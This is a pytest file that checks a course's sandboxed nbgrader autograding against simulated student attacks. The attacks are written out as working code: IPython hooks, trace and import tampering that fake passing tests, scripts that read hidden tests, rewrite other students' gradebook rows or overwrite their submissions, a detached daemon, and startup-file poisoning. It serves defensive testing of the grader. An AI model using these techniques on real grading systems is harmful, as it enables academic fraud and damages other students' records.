"""Attacks on the grader, each as a student submission, graded by real `nbgrader autograde` runs.

A small assignment made of real cells of solutions/weight_decay (the imports, `l2_penalty`, `sgd_step` and
their three test cells, hidden tests included) is graded with the course's nbgrader_config.py. One autograde
run holds honest students graded before (`aaa...`) and after (`zzz...`) the attackers, and every attack
below. Each attack starts from a wrong answer (an `l2_penalty` that returns the norm, an `sgd_step` that does
nothing), so that without the attack it scores 0.

The run is made with the sandbox (the course's configuration), and, when ``REGCOURSE_ATTACK_DEMO=1``, a
second time with ``REGCOURSE_SANDBOX=off`` (nbgrader's own execution, scores and feedback, as before issue
10). Then every check is asserted in both directions: with the sandbox it holds, without it the attack works,
so each check is shown to be able to fail. The second run doubles the time, so CI runs it only on demand
(``REGCOURSE_ATTACK_DEMO=1 REGCOURSE_ATTACK_TABLE=table.md pytest tests/test_grading_attacks.py`` writes the
with/without table). Without the sandbox the attacks run with the test's permissions: everything they can
reach is a temporary copy (course, HOME, helper package via PYTHONPATH).
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
VENV_BIN = Path(sys.executable).parent
A = "mini"
CELL_TIMEOUT = 60     # seconds per cell (the course uses 120): importing torch takes 10 s on a busy machine
WALL_TIMEOUT = 300    # seconds per submission (the course uses 900); an honest one takes 5-60 s
# The slow-submission attack is graded in a run of its own with short limits, so that it costs little time.
SLEEP_CELL_TIMEOUT, SLEEP_WALL_TIMEOUT, SLEEP_CELLS = 10, 25, 6
MARKER = "/tmp/regcourse-attack-marker"   # the daemon attack writes here: in the sandbox, a private /tmp
TESTS = ("test_l2_penalty", "test_sgd_step_weights", "test_sgd_step_bias")

pytestmark = [pytest.mark.grading, pytest.mark.slow]

# ------------------------------------------------------------------------------------------ the attacks
# Each is Python source put at the top of the l2_penalty cell, before the wrong answers below.
WRONG = ("def l2_penalty(w):\n    return w.norm()\n\n"
         "def sgd_step(w, b, lr, lambd):\n    pass\n")

# every grade of one student's submissions (the daemon raises its own, writegradebook zeroes another's)
OWN_ROWS = ("update grade set auto_score = ? where notebook_id in (select submitted_notebook.id from "
            "submitted_notebook join submitted_assignment on submitted_notebook.assignment_id = "
            "submitted_assignment.id where submitted_assignment.student_id = 'STUDENT')")
FIND_COURSE = '''
import os, glob
def _course():
    # Without a sandbox the kernel runs in autograded/<student>/<assignment>/: the course is two levels up.
    here = os.getcwd()
    for up in (here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
               os.path.dirname(os.path.dirname(os.path.dirname(here)))):
        if os.path.exists(os.path.join(up, "nbgrader_config.py")):
            return up
    for hit in glob.glob("/tmp/**/nbgrader_config.py", recursive=True)[:1]:
        return os.path.dirname(hit)
    return None
COURSE = _course()
'''

ATTACKS = {
    # ---- in the kernel
    "transformer": '''
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: ["pass\\n"] if any("regcourse.grading" in l for l in lines) else lines)
''',
    "customexc": '''
ip = get_ipython()
ip.set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
def _clear(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", _clear)
''',
    "executeresult": '''
def _partial(info):   # an execute_result before the test's error: nbgrader reads it as (full) partial credit
    if "regcourse.grading" in info.raw_cell:
        get_ipython().displayhook("full marks")
get_ipython().events.register("pre_run_cell", _partial)
''',
    "settrace": '''
import sys, ctypes
def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "assert_close" and "expected" in frame.f_locals:
        frame.f_locals["actual"] = frame.f_locals["expected"]
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return None
sys.settrace(_tracer)
''',
    "bootstrapexec": '''
import importlib._bootstrap as _B
_real_exec = _B._exec
def _exec(spec, module):
    m = _real_exec(spec, module)
    if spec.name == "regcourse.grading":
        for n in ("assert_close", "assert_not_close", "assert_tensor", "assert_shape", "check_environment"):
            setattr(m, n, lambda *a, **k: None)
    return m
_B._exec = _exec
''',
    "fakeimport": '''
import builtins, types, regcourse.grading as _G
_real_import = builtins.__import__
_fake = types.ModuleType("regcourse.grading")
_fake.values, _fake.scalar, _fake.shape = _G.values, _G.scalar, _G.shape
for _n in ("assert_close", "assert_not_close", "assert_tensor", "assert_shape", "assert_finite"):
    setattr(_fake, _n, lambda *a, **k: None)
_fake_importlib = types.SimpleNamespace(reload=lambda m: m)
def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "regcourse.grading":
        return types.SimpleNamespace(grading=_fake)
    if name == "importlib" and not fromlist:
        return _fake_importlib
    return _real_import(name, globals, locals, fromlist, level)
builtins.__import__ = _import
''',
    "torchmode": '''
import sys, torch
from torch.overrides import TorchFunctionMode
def _flat(x):
    if isinstance(x, torch.Tensor):
        with torch._C.DisableTorchFunction():
            return torch._C.TensorBase.tolist(torch._C.TensorBase.reshape(x.detach().double(), (-1,)))
    if isinstance(x, (list, tuple)):
        return [v for item in x for v in _flat(item)]
    return [float(x)]
class _Liar(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") == "tolist":
            f = sys._getframe(1)
            while f is not None:
                if f.f_code.co_name == "_flatten" and f.f_back and f.f_back.f_code.co_name == "assert_close" \\
                        and f.f_locals.get("name") != "the reference":
                    return _flat(f.f_back.f_locals["expected"])
                f = f.f_back
        return func(*args, **(kwargs or {}))
_Liar().__enter__()
''',
    "patchintest": '''
def _disarm():
    g = globals().get("G")
    if g is not None:
        g.assert_close = g.assert_tensor = g.assert_shape = g.assert_not_close = lambda *a, **k: None
''',
    # ---- outside the kernel, with the grader's permissions
    "readsecrets": FIND_COURSE + '''
if COURSE:
    for p in glob.glob(os.path.join(COURSE, "source", "*", "*.ipynb")):
        print(open(p).read()[:20000])
    import sqlite3
    db = sqlite3.connect(os.path.join(COURSE, "gradebook.db"))
    print(db.execute("select * from student").fetchall())
''',
    "execsolutions": FIND_COURSE + '''
import json
_SOLUTIONS = []
if COURSE:
    for p in glob.glob(os.path.join(COURSE, "source", "*", "*.ipynb")):
        for c in json.load(open(p))["cells"]:
            src = "".join(c["source"])
            if c["cell_type"] == "code" and "BEGIN SOLUTION" in src:
                _SOLUTIONS.append(src)
''',
    "writegradebook": FIND_COURSE + '''
import sqlite3
if COURSE:
    db = sqlite3.connect(os.path.join(COURSE, "gradebook.db"), timeout=30)
    db.execute(ZERO_AAA)
    db.commit()
'''.replace("ZERO_AAA", repr(OWN_ROWS.replace("?", "0").replace("STUDENT", "aaahonest"))),
    "overwriteothers": FIND_COURSE + '''
import shutil
if COURSE:
    for p in glob.glob(os.path.join(COURSE, "submitted", "zzz*", "*", "*.ipynb")):
        shutil.copy(glob.glob(os.path.join(COURSE, "release", "*", "*.ipynb"))[0], p)
    for p in glob.glob(os.path.join(COURSE, "autograded", "aaa*", "*", "*.ipynb")):
        os.chmod(p, 0o644)
        open(p, "w").write("{}")
''',
    "daemon": FIND_COURSE + '''
import subprocess, sys
code = """
import sqlite3, time, os, sys
time.sleep(4)
open(%r, "w").write("the daemon outlived the kernel")
if sys.argv[1] != "None":
    db = sqlite3.connect(os.path.join(sys.argv[1], "gradebook.db"), timeout=30)
    db.execute(%r)
    db.commit()
""" % (MARKER_PATH, RAISE_OWN)
subprocess.Popen([sys.executable, "-c", code, str(COURSE)], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''.replace("MARKER_PATH", repr(MARKER)).replace(
        "RAISE_OWN", repr(OWN_ROWS.replace("?", "1").replace("STUDENT", "ooutside"))),
    "editgrading": '''
import regcourse.grading as _G
with open(_G.__file__, "a") as f:
    f.write("\\n\\ndef assert_close(*a, **k):\\n    pass\\n")
''',
    "startupfile": '''
import os
d = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(d, exist_ok=True)
open(os.path.join(d, "00-attack.py"), "w").write("import torch\\ntorch.allclose = lambda *a, **k: True\\n")
''',
    "editconfig": FIND_COURSE + '''
if COURSE:
    open(os.path.join(COURSE, "nbgrader_config.py"), "a").write("\\n# attacker was here\\n")
''',
    "symlinkout": FIND_COURSE + '''
if COURSE:
    me = os.path.join(os.getcwd(), "mini.ipynb")
    if os.path.exists(me):
        os.chmod(os.getcwd(), 0o755)
        os.remove(me)
        os.symlink(os.path.join(COURSE, "victim.txt"), me)
''',
    "bigprint": '''
print("x" * 50_000_000)
''',
}
# Attacks that are not one cell at the top of l2_penalty.
EXTRA_CELLS = {
    "execsolutions": ["for _s in _SOLUTIONS:\n    exec(_s)"],
    "sleeper": [f"import time\ntime.sleep({SLEEP_CELL_TIMEOUT - 1})\nprint('slept {i}')" for i in range(SLEEP_CELLS)],
}
IN_KERNEL = ("transformer", "customexc", "executeresult", "settrace", "bootstrapexec", "fakeimport", "torchmode",
             "patchintest")
# The attacks outside the kernel whose effects are checked on files and rows, not on the attacker's score, are
# made by one student, one attack per cell (a failing cell does not stop the next): fewer kernels to start.
# It is graded after every in-kernel attacker, so that without the sandbox its poisoning of later runs
# (grading.py, the IPython startup file) does not decide their outcomes.
OUTSIDE = ("readsecrets", "writegradebook", "overwriteothers", "daemon", "editgrading", "startupfile",
           "editconfig", "bigprint")


def sid(name):
    """Student id of an attack: k... in the kernel, o... outside it."""
    if name in OUTSIDE:
        return "ooutside"
    return ("k" if name in IN_KERNEL else "o") + name


# ------------------------------------------------------------------------------------------ the course

def _env(mode, home, pkg_copy):
    env = dict(os.environ)
    env["PATH"] = f"{VENV_BIN}{os.pathsep}{env.get('PATH', '')}"
    env["REGCOURSE_NO_PROGRESS"] = "1"
    env["HOME"] = str(home)
    env.pop("JUPYTER_CONFIG_DIR", None)
    env.pop("IPYTHONDIR", None)
    # The attacks may write to the helper package: grade with a copy (the sandbox shows the kernel the package
    # the grader imports, read-only; without it the kernel imports it from PYTHONPATH).
    env["PYTHONPATH"] = str(pkg_copy)
    if mode == "off":
        env["REGCOURSE_SANDBOX"] = "off"
    else:
        env.pop("REGCOURSE_SANDBOX", None)
    return env


def nbgrader(course, env, *args):
    return subprocess.run([str(VENV_BIN / "nbgrader"), *args], cwd=course, env=env, capture_output=True, text=True)


def _cell_of(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def make_course(tmp: Path, mode: str):
    course = tmp / "course"
    (course / "source" / A).mkdir(parents=True)
    src = nbformat.read(ROOT / "solutions" / "weight_decay" / "weight_decay.ipynb", as_version=4)
    nb = nbformat.v4.new_notebook(metadata=src.metadata)
    nb.cells = [nbformat.from_dict(json.loads(json.dumps(_cell_of(src, g)))) for g in
                ("weight_decay-code-02", "l2_penalty") + TESTS[:1] + ("sgd_step",) + TESTS[1:]]
    nbformat.write(nb, course / "source" / A / f"{A}.ipynb")
    config = (ROOT / "nbgrader_config.py").read_text()
    # the course's configuration, with the source folder this fixture uses and short limits
    config += ('\nc.CourseDirectory.source_directory = "source"\nc.CourseDirectory.release_directory = "release"\n')
    (course / "nbgrader_config.py").write_text(config)
    (course / "victim.txt").write_text("a file of the course that no submission may change\n")
    home = tmp / "home"
    home.mkdir()
    pkg_copy = tmp / "pkgcopy"
    shutil.copytree(ROOT / "regcourse", pkg_copy / "regcourse", ignore=shutil.ignore_patterns("__pycache__"))
    env = _env(mode, home, pkg_copy)
    proc = nbgrader(course, env, "generate_assignment", A, "--force")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return course, home, pkg_copy, env


def solved(course):
    release = nbformat.read(course / "release" / A / f"{A}.ipynb", as_version=4)
    source = nbformat.read(course / "source" / A / f"{A}.ipynb", as_version=4)
    for c in release.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("solution"):
            c.source = "\n".join(l for l in _cell_of(source, meta["grade_id"]).source.splitlines()
                                 if "### BEGIN SOLUTION" not in l and "### END SOLUTION" not in l)
    return release


def attacked(course, name):
    nb = nbformat.read(course / "release" / A / f"{A}.ipynb", as_version=4)
    if name == "outside":
        _cell_of(nb, "l2_penalty").source = WRONG
        at = nb.cells.index(_cell_of(nb, "l2_penalty")) + 1
        for attack in OUTSIDE:
            nb.cells.insert(at, nbformat.v4.new_code_cell(ATTACKS[attack]))
            at += 1
        return nb
    _cell_of(nb, "l2_penalty").source = ATTACKS.get(name, "") + "\n" + WRONG
    _cell_of(nb, "sgd_step").source = "_disarm()\n" * (name == "patchintest") + "pass\n"
    at = nb.cells.index(_cell_of(nb, "l2_penalty")) + 1
    for src in EXTRA_CELLS.get(name, []):
        nb.cells.insert(at, nbformat.v4.new_code_cell(src))
        at += 1
    if name == "patchintest":   # disarm inside the test cell: l2_penalty itself patches G when called
        _cell_of(nb, "l2_penalty").source = ATTACKS[name] + ("\ndef l2_penalty(w):\n    _disarm()\n"
                                                             "    return w.norm()\n\ndef sgd_step(w, b, lr, lambd):\n"
                                                             "    _disarm()\n")
    return nb


def tqdm_solution(course):
    """Correct, and shows a progress bar whenever it is called (tqdm's closing chunk on stderr)."""
    nb = solved(course)
    _cell_of(nb, "l2_penalty").source = (
        "from tqdm import tqdm\n\ndef l2_penalty(w):\n    total = 0\n"
        "    for row in tqdm(w.reshape(1, -1), leave=True):\n        total = total + (row ** 2).sum()\n"
        "    return total / 2\n")
    return nb


def digest(path: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(path.rglob("*")) if path.is_dir() else [path]:
        if p.is_file() and "__pycache__" not in p.parts:
            h.update(str(p.relative_to(path) if path.is_dir() else p.name).encode())
            h.update(p.read_bytes())
    return h.hexdigest()


def course_files(course):
    return {p: digest(course / p) for p in ("nbgrader_config.py", "source", "release", "victim.txt")}


def scores(course, keep=lambda cell: cell in TESTS):
    """{student: {cell: autograded score}} from the gradebook, for the cells `keep` accepts."""
    db = sqlite3.connect(course / "gradebook.db")
    rows = db.execute(
        "select student.id, base_cell.name, grade.auto_score from grade "
        "join submitted_notebook on grade.notebook_id = submitted_notebook.id "
        "join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id "
        "join student on submitted_assignment.student_id = student.id "
        "join base_cell on grade.cell_id = base_cell.id").fetchall()
    out = {}
    for student, cell, score in rows:
        if keep(cell):
            out.setdefault(student, {})[cell] = score
    return out


def _write(course, student, nb, marker):
    folder = course / "submitted" / student / A
    folder.mkdir(parents=True)
    for c in nb.cells:
        c.source = c.source.replace(MARKER, marker)   # one marker file per run: the runs may overlap
    nbformat.write(nb, folder / f"{A}.ipynb")


def run(tmp, mode):
    marker_path = f"{MARKER}-{mode}-{os.getpid()}"
    if os.path.exists(marker_path):
        os.remove(marker_path)
    course, home, pkg_copy, env = make_course(tmp, mode)
    sub = course / "submitted"
    for student, nb in ([("aaahonest", solved(course)), ("aabtqdm", tqdm_solution(course))] +
                        [(sid(name), attacked(course, name)) for name in ATTACKS if name not in OUTSIDE] +
                        [("ooutside", attacked(course, "outside"))] +
                        [("zzzhonest", solved(course))]):
        _write(course, student, nb, marker_path)
    # a submission that is a symbolic link to another student's notebook (graded as the link's owner's?)
    (sub / "osymlinksub" / A).mkdir(parents=True)
    (sub / "osymlinksub" / A / f"{A}.ipynb").symlink_to(sub / "aaahonest" / A / f"{A}.ipynb")
    before = {"course": course_files(course), "zzz": digest(sub / "zzzhonest"),
              "pkg": digest(pkg_copy), "home": digest(home)}
    t0 = time.time()
    proc = nbgrader(course, env, "autograde", A, "--force", f"--Execute.timeout={CELL_TIMEOUT}",
                    f"--SandboxedExecute.wall_timeout={WALL_TIMEOUT}")
    seconds = time.time() - t0
    n_main = len(list(sub.iterdir()))
    _write(course, "osleeper", attacked(course, "sleeper"), marker_path)
    t1 = time.time()
    proc_sleep = nbgrader(course, env, "autograde", A, "--force", "--student", "osleeper",
                          f"--Execute.timeout={SLEEP_CELL_TIMEOUT}",
                          f"--SandboxedExecute.wall_timeout={SLEEP_WALL_TIMEOUT}")
    sleeper_seconds = time.time() - t1
    time.sleep(6)     # the daemon attack acts 4 s after it starts: give it the chance
    after = {"course": course_files(course), "zzz": digest(sub / "zzzhonest"),
             "pkg": digest(pkg_copy), "home": digest(home)}
    autograded, sizes = {}, {}   # per student: the text of every output (what the kernel produced), the file size
    for student_dir in (course / "autograded").iterdir():
        p = student_dir / A / f"{A}.ipynb"
        if p.is_file() and not p.is_symlink():
            sizes[student_dir.name] = p.stat().st_size
            try:   # without the sandbox an attack may have overwritten it with anything
                nb = json.loads(p.read_text(errors="replace"))
                cells = nb.get("cells", []) if isinstance(nb, dict) else []
            except ValueError:
                cells = []
            autograded[student_dir.name] = "\n".join(json.dumps(o) for c in cells if isinstance(c, dict)
                                                      for o in c.get("outputs", []))
    marker = os.path.exists(marker_path)
    if marker:
        os.remove(marker_path)
    proc_fb = nbgrader(course, env, "generate_feedback", A, "--force")
    feedback = {}
    for p in (course / "feedback").rglob("*.html"):
        feedback[p.parts[-3]] = p.read_text(errors="replace")
    return {"mode": mode, "course": course, "log": proc.stderr + proc_sleep.stderr, "rc": proc.returncode,
            "sizes": sizes,
            "seconds": seconds, "n_main": n_main, "sleeper_seconds": sleeper_seconds,
            "scores": scores(course), "before": before, "after": after, "autograded": autograded,
            "marker": marker, "feedback": feedback, "feedback_log": proc_fb.stderr,
            "n": len(list(sub.iterdir()))}


DEMO = os.environ.get("REGCOURSE_ATTACK_DEMO") == "1"


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    if DEMO:   # both runs at once: they share nothing (own course, HOME, package copy, marker file)
        from concurrent.futures import ThreadPoolExecutor
        with ThreadPoolExecutor(2) as pool:
            # the folders are made here: pytest's mktemp is not safe from two threads at once
            futures = [pool.submit(run, tmp_path_factory.mktemp(f"attacks-{mode}"), mode) for mode in ("on", "off")]
            on, off = (f.result() for f in futures)
    else:
        on, off = run(tmp_path_factory.mktemp("attacks-on"), "on"), None
    line = (f"[grading] attack suite: {on['n_main']} submissions in one autograde run, sandboxed "
            f"{on['seconds']:.0f} s ({on['seconds'] / on['n_main']:.1f} s each)"
            + (f", unsandboxed {off['seconds']:.0f} s ({off['seconds'] / off['n_main']:.1f} s each)" if off else "")
            + f"; the slow submission: {on['sleeper_seconds']:.0f} s sandboxed"
            + (f", {off['sleeper_seconds']:.0f} s unsandboxed" if off else ""))
    print("\n" + line)
    if os.environ.get("GRADING_TIMINGS"):
        with open(os.environ["GRADING_TIMINGS"], "a") as f:
            f.write(line + "\n")
    return {"on": on, "off": off}


def total(r, student):
    return sum(v or 0 for v in r["scores"].get(student, {}).values())


FULL = 4.0   # 1 + 2 + 1 points in the three test cells


# ------------------------------------------------------------------------------------------ the checks
# Each check is a function of one run that returns True when the protection held.

def held_score(name):
    return lambda r: total(r, sid(name)) == 0


def held_honest(r):
    return all(total(r, s) == FULL for s in ("aaahonest", "zzzhonest"))


CHECKS = {f"{name}: attacker scores 0": held_score(name) for name in IN_KERNEL + ("execsolutions",)}
CHECKS.update({
    "honest students before and after keep full marks": held_honest,
    "readsecrets: no hidden tests or other students in the attacker's outputs":
        lambda r: "BEGIN HIDDEN TESTS" not in r["autograded"].get("ooutside", "")
        and "zzzhonest" not in r["autograded"].get("ooutside", ""),
    "writegradebook: other students' rows unchanged": held_honest,
    "overwriteothers: other students' submissions unchanged":
        lambda r: r["before"]["zzz"] == r["after"]["zzz"] and total(r, "zzzhonest") == FULL
        and total(r, "aaahonest") == FULL,
    "daemon: nothing outlives the kernel": lambda r: not r["marker"] and total(r, "ooutside") == 0,
    "editgrading: helper package unchanged": lambda r: r["before"]["pkg"] == r["after"]["pkg"],
    "startupfile: HOME unchanged": lambda r: r["before"]["home"] == r["after"]["home"],
    "editconfig/symlinkout: course files unchanged": lambda r: r["before"]["course"] == r["after"]["course"],
    "bigprint: the stored notebook stays small": lambda r: r["sizes"].get("ooutside", 0) < 2_000_000,
    "symlinksub: a symlinked submission is rejected": lambda r: total(r, "osymlinksub") == 0
        and ("symbolic link" in r["log"]) == (r["mode"] == "on"),
    "sleeper: the wall-clock limit cuts a slow submission": lambda r: f"slept {SLEEP_CELLS - 1}" not in
        r["autograded"].get("osleeper", f"slept {SLEEP_CELLS - 1}"),
})


def outcome_table(runs):
    rows = ["| check | sandbox on | sandbox off |", "|---|---|---|"]
    for name, check in CHECKS.items():
        off = "not run" if runs["off"] is None else "held" if check(runs["off"]) else "FAILED"
        rows.append(f"| {name} | {'held' if check(runs['on']) else 'FAILED'} | {off} |")
    return "\n".join(rows)


@pytest.mark.parametrize("check", list(CHECKS))
def test_check_holds_with_sandbox_and_fails_without(runs, check):
    on = CHECKS[check](runs["on"])
    detail = f"\n{outcome_table(runs)}\nscores on: {runs['on']['scores']}"
    assert on, f"with the sandbox, '{check}' did not hold." + detail + "\n" + runs["on"]["log"][-3000:]
    if runs["off"] is not None:
        off = CHECKS[check](runs["off"])
        assert not off, (f"without the sandbox, '{check}' held too: the attack is not a real attack." + detail +
                         f"\nscores off: {runs['off']['scores']}")


def test_outcome_table_written(runs):
    table = outcome_table(runs)
    out = os.environ.get("REGCOURSE_ATTACK_TABLE")
    if out:
        Path(out).write_text(table + "\n")
    print("\n" + table)
    assert "FAILED |" not in table.split("| sandbox off |")[0]


def test_tqdm_bar_does_not_zero_a_correct_answer(runs):
    assert total(runs["on"], "aabtqdm") == FULL, runs["on"]["scores"]["aabtqdm"]


def test_review_flags_one_log_line_per_flagged_student(runs):
    log = runs["on"]["log"]
    for name in IN_KERNEL:
        lines = [l for l in log.splitlines() if "REVIEW" in l and f"'{sid(name)}'" in l]
        assert len(lines) == 1, f"{sid(name)}: {lines}"
    for student in ("aaahonest", "zzzhonest", "aabtqdm"):
        assert not any("REVIEW" in l and f"'{student}'" in l for l in log.splitlines()), student


def test_feedback_has_no_hidden_tests_or_tracebacks_of_tests(runs):
    fb = runs["on"]["feedback"]
    assert "aaahonest" in fb and "ktransformer" in fb, (sorted(fb), runs["on"]["feedback_log"][-2000:])
    for student, html in fb.items():
        assert "BEGIN HIDDEN TESTS" not in html and "reference_ridge" not in html, student
        assert "sum(shape)" not in html, f"{student}: a hidden test's code is in the feedback"
    if runs["off"] is not None:   # nbgrader's own feedback shows them (what this check guards against)
        assert any("sum(shape)" in h for h in runs["off"]["feedback"].values())


# ------------------------------------------------------------------- dropout_backward: names the tests rely on
# A test cell runs in the student's namespace, so a global named like a builtin (`abs`, `max`, `sum`) changes what
# a test's own comparisons compute. The test cells of dropout_backward drop such globals (and import torch and
# make_generator again) before they check anything. A small course made of its real cells (set-up, the dropout
# layer, test_dropout_forward) holds a copy of that test without those lines, run first, to show that the
# attack works where they are missing. Each attacker's forward pass forgets 1/(1-p), which test_dropout_forward catches.
DB = "dropout_backward"
DB_SHADOWS = {
    "shadowabs": "def abs(x):\n    return 0.0\n",
    "shadowmany": ("def abs(x):\n    return 0.0\n\n\ndef max(*a, **k):\n    return 0.0\n\n\n"
                   "def all(x):\n    return True\n\n\nsum = lambda *a, **k: 0.0\n"),
}
# the guard in the test cells: from this loop to its one line, inclusive
DB_GUARD = re.compile(r"^for _builtin in \(.*?^    globals\(\)\.pop\(_builtin, None\).*?\n", re.S | re.M)


def db_shadow_course(tmp: Path):
    course = tmp / "course"
    (course / "source" / DB).mkdir(parents=True)
    src = nbformat.read(ROOT / "solutions" / DB / f"{DB}.ipynb", as_version=4)
    nb = nbformat.v4.new_notebook(metadata=src.metadata)
    nb.cells = [nbformat.from_dict(json.loads(json.dumps(_cell_of(src, g)))) for g in
                ("dropout_backward-code-02", "dropout_layer", "test_dropout_forward", "test_dropout_forward")]
    unguarded = nb.cells[2]   # before the guarded test: the guard removes the shadows for the cells after it
    unguarded.source, n = DB_GUARD.subn("", unguarded.source)
    assert n == 1, "the guard of test_dropout_forward changed: update DB_GUARD"
    unguarded.metadata.nbgrader["grade_id"] = "test_dropout_forward_unguarded"
    unguarded.id = "unguarded-copy"
    nbformat.write(nb, course / "source" / DB / f"{DB}.ipynb")
    config = (ROOT / "nbgrader_config.py").read_text()
    config += '\nc.CourseDirectory.source_directory = "source"\nc.CourseDirectory.release_directory = "release"\n'
    (course / "nbgrader_config.py").write_text(config)
    home = tmp / "home"
    home.mkdir()
    pkg_copy = tmp / "pkgcopy"
    shutil.copytree(ROOT / "regcourse", pkg_copy / "regcourse", ignore=shutil.ignore_patterns("__pycache__"))
    env = _env("on", home, pkg_copy)
    proc = nbgrader(course, env, "generate_assignment", DB, "--force")
    assert proc.returncode == 0, proc.stderr[-3000:]
    release = nbformat.read(course / "release" / DB / f"{DB}.ipynb", as_version=4)
    solution = "\n".join(line for line in _cell_of(src, "dropout_layer").source.splitlines()
                         if "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line)
    for student, prefix in [("honest", "")] + list(DB_SHADOWS.items()):
        nb = json.loads(json.dumps(release))
        code = solution if not prefix else prefix + "\n\n" + solution.replace("out = X * mask / (1 - p)",
                                                                                  "out = X * mask")
        for c in nb["cells"]:
            if c["metadata"].get("nbgrader", {}).get("grade_id") == "dropout_layer":
                c["source"] = code
        folder = course / "submitted" / student / DB
        folder.mkdir(parents=True)
        nbformat.write(nbformat.from_dict(nb), folder / f"{DB}.ipynb")
    proc = nbgrader(course, env, "autograde", DB, "--force", f"--Execute.timeout={CELL_TIMEOUT}",
                    f"--SandboxedExecute.wall_timeout={WALL_TIMEOUT}")
    return scores(course, keep=lambda cell: cell.startswith("test_")), proc.stderr


@pytest.fixture(scope="module")
def db_shadow(tmp_path_factory):
    return db_shadow_course(tmp_path_factory.mktemp("db-shadow"))


def test_dropout_backward_shadowed_builtins_gain_nothing(db_shadow):
    scores, log = db_shadow
    assert scores["honest"] == {"test_dropout_forward": 2, "test_dropout_forward_unguarded": 2}, (scores, log[-3000:])
    for student in DB_SHADOWS:
        # the guarded test (the course's) catches the missing 1/(1-p) ...
        assert scores[student]["test_dropout_forward"] == 0, (student, scores)
        # ... and the same test without the guard is fooled: the attack is real
        assert scores[student]["test_dropout_forward_unguarded"] == 2, (student, scores)
        assert not any("REVIEW" in line and f"'{student}'" in line for line in log.splitlines()), (
            "the static review flagged a shadowed builtin: this test then shows nothing about the guard")


@pytest.mark.parametrize("assignment", ["weight_decay", "dropout", "dropout_backward"])
def test_every_test_cell_drops_shadowed_builtins(assignment):
    """The guard that test_dropout_backward_shadowed_builtins_gain_nothing shows working, in every autograded
    test cell of every assignment (a test cell without it can be fooled by a student's `def abs(x): ...`)."""
    nb = nbformat.read(ROOT / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)
    tests = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")
             and not c.metadata["nbgrader"].get("solution")]
    assert tests, f"no autograded test cell in {assignment}"
    unguarded = [c.metadata["nbgrader"]["grade_id"] for c in tests
                 if not DB_GUARD.search(c.source) or "G.check_environment()" not in c.source]
    assert not unguarded, f"{assignment}: test cells without the guard against shadowed builtins: {unguarded}"
